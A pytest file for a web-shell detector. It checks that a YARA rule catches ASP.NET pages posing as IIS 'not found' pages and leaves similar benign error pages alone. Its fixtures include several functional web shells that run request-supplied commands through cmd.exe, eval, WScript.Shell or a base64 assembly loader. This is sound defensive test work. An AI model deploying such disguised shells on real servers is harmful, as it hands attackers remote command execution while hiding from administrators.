@@ -1,0 +1,206 @@
+"""Rule and kept findings from the twelfth unseen collection, shells as defenders met them (issue 14, helper
+X14).
+
+On first sight the own rules found all three shells of the collection (BENCHMARKS.md, "Unseen shells,
+twelfth collection"), but one of them - MITRE CTID's re-build of OilRig's TwoFace page as Exchange's
+/EWS/contact.aspx - only through the behaviour analysis: no YARA rule of ours fired. Its disguise is a
+family trait met in several intrusions (TwoFace, APT34's HighShell, the "404 input shell" of Operation
+TaskMasters): the page shows the server's own "not found" error page while its code runs commands for the
+right request. ``data/rules/decoy_error_pages.yar`` carries that shape; the pages below reproduce it in C#,
+JScript and VB and in a handler, next to the ordinary pages closest to it (custom error pages that copy
+the stock wording, a page borrowing one phrase for its own message, a help page quoting the stock page).
+A second group keeps found the shapes of this collection that one check alone found. All pages were
+written for these tests: nothing is compiled or run, commands and keys are placeholders, and none is a
+copy of a real shell.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from extriage.detections.webfiles import content
+
+from .rule_tables import Page, page_hits, rule_tables
+
+YSOD_404 = (
+    "<html><head><title>The resource cannot be found.</title></head><body>\n"
+    "<span><H1>Server Error in '/EWS' Application.<hr width=100% size=1 color=silver></H1>\n"
+    "<h2> <i>The resource cannot be found.</i> </h2></span>\n"
+    "<b> Description:</b> HTTP 404. The resource you are looking for (or one of its dependencies) could have"
+    " been removed, had its name changed, or is temporarily unavailable.<br><br>\n"
+    "<b> Requested URL: </b>/EWS/contact.aspx<br><br>\n"
+)
+IIS_404 = (
+    '<html><head><title>404 - File or directory not found.</title></head><body>\n<div id="header">'
+    '<h1>Server Error</h1></div>\n<div id="content"><fieldset><h2>404 - File or directory not found.</h2>\n'
+    "<h3>The resource you are looking for might have been removed, had its name changed, or is temporarily"
+    " unavailable.</h3></fieldset></div>\n"
+)
+IIS6_404 = (
+    "<html><head><title>The page cannot be found</title></head><body>\n<h1>The page cannot be found</h1>\n"
+    "The page you are looking for might have been removed.<hr><p>HTTP Error 404 - File or directory not"
+    " found.<br>Internet Information Services (IIS)</p>\n"
+)
+
+# --- pages dressed as the stock "not found" page that run what the request says ---------------------
+DECOYS: list[Page] = [
+    (
+        "cs-aspnet-404-decoy-executor-helper",
+        ".aspx",
+        '<%@ Page Language="C#" ValidateRequest="false" %>\n<%@ Import Namespace="System.Diagnostics" %>\n'
+        '<script runat="server">\n'
+        "protected void Page_Load(object s, EventArgs e) {\n"
+        '  if (Request.HttpMethod == "POST" && Request.Form["x"] != null)\n'
+        '    Output.InnerText = Run(Request.Form["x"], Request.Form["y"]);\n}\n'
+        "private string Run(string program, string line) {\n"
+        "  var i = new ProcessStartInfo();\n"
+        '  i.FileName = program; i.Arguments = (program == "cmd.exe" ? "/c " : "") + line;\n'
+        "  i.UseShellExecute = false; i.RedirectStandardOutput = true; i.CreateNoWindow = true;\n"
+        "  return Process.Start(i).StandardOutput.ReadToEnd();\n}\n</script>\n"
+        + YSOD_404
+        + '<pre runat="server" id="Output"/></body></html>\n',
+    ),
+    (
+        "jscript-iis-404-decoy-eval",
+        ".aspx",
+        '<%@ Page Language="JScript" %>\n'
+        + IIS_404
+        + '<% if (Request.Form["k"] != null) { eval(Request.Form["k"], "unsafe"); } %>\n</body></html>\n',
+    ),
+    (
+        "vb-iis6-decoy-wscript-exec",
+        ".aspx",
+        '<%@ Page Language="VB" AspCompat="true" %>\n' + IIS6_404 + '<%\nIf Request.Form("c") <> "" Then\n'
+        '  Dim sh As Object = Server.CreateObject("WScript.Shell")\n'
+        '  Response.Write(sh.Exec("cmd /c " & Request.Form("c")).StdOut.ReadAll())\nEnd If\n%>\n</body></html>\n',
+    ),
+    (
+        "cs-handler-decoy-assembly-loader",
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="H" %>\nusing System; using System.Web;\n'
+        "public class H : IHttpHandler {\n"
+        "  public void ProcessRequest(HttpContext c) {\n"
+        '    if (c.Request.Form["p"] == null) {\n'
+        "      c.Response.StatusCode = 404;\n"
+        "      c.Response.Write(\"<html><body><H1>Server Error in '/' Application.</H1>"
+        '<h2><i>The resource cannot be found.</i></h2></body></html>");\n      return;\n    }\n'
+        '    var a = System.Reflection.Assembly.Load(Convert.FromBase64String(c.Request.Form["p"]));\n'
+        '    a.CreateInstance("Placeholder.Entry").Equals(c);\n  }\n'
+        "  public bool IsReusable { get { return false; } }\n}\n",
+    ),
+    (
+        "cs-detailed-404-decoy-process-start",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '  string q = Request.QueryString["q"];\n'
+        '  if (q != null) Response.Write(System.Diagnostics.Process.Start("cmd.exe", "/c " + q).Id);\n}\n'
+        "</script>\n<html><head><title>IIS 10.0 Detailed Error - 404.0 - Not Found</title></head><body>\n"
+        "<h3>HTTP Error 404.0 - Not Found</h3>\n"
+        "<h4>The resource you are looking for has been removed, had its name changed, or is temporarily"
+        " unavailable.</h4>\n</body></html>\n",
+    ),
+]
+
+# --- the ordinary pages closest to them: must stay silent --------------------------------------------
+DECOY_ORDINARY: list[Page] = [
+    (
+        "custom-404-logs-the-missing-path",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n  Response.StatusCode = 404;\n"
+        '  System.IO.File.AppendAllText(Server.MapPath("~/App_Data/missing.log"),\n'
+        '    DateTime.UtcNow.ToString("o") + " " + Request.QueryString["aspxerrorpath"] + "\\r\\n");\n}\n'
+        "</script>\n" + YSOD_404 + "</body></html>\n",
+    ),
+    (
+        "custom-404-mails-the-admin",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Mail" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '  new SmtpClient("mail.example.invalid").Send("web@example.invalid", "admin@example.invalid",\n'
+        '    "404", "Missing: " + Request.QueryString["aspxerrorpath"]);\n}\n</script>\n'
+        + IIS_404
+        + "</body></html>\n",
+    ),
+    (
+        "custom-404-transfers-to-search",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n'
+        'string missing = Request.QueryString["aspxerrorpath"];\n'
+        'if (!string.IsNullOrEmpty(missing)) Server.Transfer("~/search.aspx?q=" + Server.UrlEncode(missing));\n'
+        "%>\n" + YSOD_404 + "</body></html>\n",
+    ),
+    (
+        "export-page-borrows-one-phrase",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        '  int id; if (!int.TryParse(Request.QueryString["id"], out id)) { Msg.Text = "The resource cannot be'
+        ' found."; return; }\n'
+        '  var i = new System.Diagnostics.ProcessStartInfo(Server.MapPath("~/bin/pdfexport.exe"), id.ToString());\n'
+        "  i.UseShellExecute = false; System.Diagnostics.Process.Start(i).WaitForExit(30000);\n}\n"
+        '</script>\n<html><body><asp:Label ID="Msg" runat="server" /></body></html>\n',
+    ),
+    (
+        "help-page-quotes-the-stock-page",
+        ".aspx",
+        '<%@ Page Language="C#" Title="Why do I see an error page?" %>\n<html><body>\n'
+        "<p>When a file is missing IIS answers with its own page:</p>\n<blockquote>"
+        + IIS_404
+        + "</blockquote>\n<p>A web shell can hide behind a copy of it, for example:</p>\n"
+        '<pre>Process.Start("cmd.exe", "/c " + Request.Form["c"]);</pre>\n</body></html>\n',
+    ),
+    (
+        "error-page-reports-the-exception",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Page_Load(object s, EventArgs e) {\n"
+        "  Exception ex = Server.GetLastError();\n"
+        '  Details.Text = Server.HtmlEncode(Request.Url + ": " + (ex == null ? "" : ex.Message));\n}\n'
+        "</script>\n" + YSOD_404 + '<asp:Literal ID="Details" runat="server" /></body></html>\n',
+    ),
+]
+
+CASES = (("EXT_WEBSHELL_Decoy_Error_Page_With_Command", DECOYS, DECOY_ORDINARY),)
+
+test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(
+    CASES, log_url="/EWS/contact.aspx"
+)
+
+
+# --- shapes of this collection that one check alone found on first sight: kept found -------------------
+BEHAVIOUR_KEPT: list[tuple[str, str, str, str]] = [
+    (
+        "cs-executor-and-command-through-async-helper",
+        ".aspx",
+        "process",
+        '<%@ Page Language="C#" Async="true" %>\n<%@ Import Namespace="System.Diagnostics" %>\n'
+        '<script runat="server">\n'
+        "protected void Page_Load(object s, EventArgs e) {\n"
+        '  if (Request.RequestType == "POST") Handle();\n}\n'
+        "private async void Handle() {\n"
+        '  string line = Request.Form.Get("l"); string prog = Request.Form.Get("m");\n'
+        "  if (!string.IsNullOrEmpty(line) && !string.IsNullOrEmpty(prog)) {\n"
+        "    Process p = Build(prog, line);\n"
+        "    Out.InnerText = await p.StandardOutput.ReadToEndAsync();\n  }\n}\n"
+        "private Process Build(string exe, string args) {\n"
+        "  Process p = new Process(); p.StartInfo = new ProcessStartInfo();\n"
+        '  p.StartInfo.FileName = exe; p.StartInfo.Arguments = (exe == "cmd.exe" ? "/c " : "") + args;\n'
+        "  p.StartInfo.RedirectStandardOutput = true; p.StartInfo.UseShellExecute = false;\n"
+        "  p.Start(); return p;\n}\n</script>\n"
+        '<html><body><pre runat="server" id="Out"/></body></html>\n',
+    ),
+]
+
+
+@pytest.mark.parametrize(("case", "ext", "sink", "page"), BEHAVIOUR_KEPT, ids=[c[0] for c in BEHAVIOUR_KEPT])
+def test_behaviour_shape_stays_found(
+    tmp_path: Path, params: content.ContentParams, case: str, ext: str, sink: str, page: str
+) -> None:
+    sinks = {
+        h["sink"] for h in page_hits(tmp_path, f"{case}{ext}", page, params) if h["check"] == "behaviour"
+    }
+    assert sink in sinks, sinks
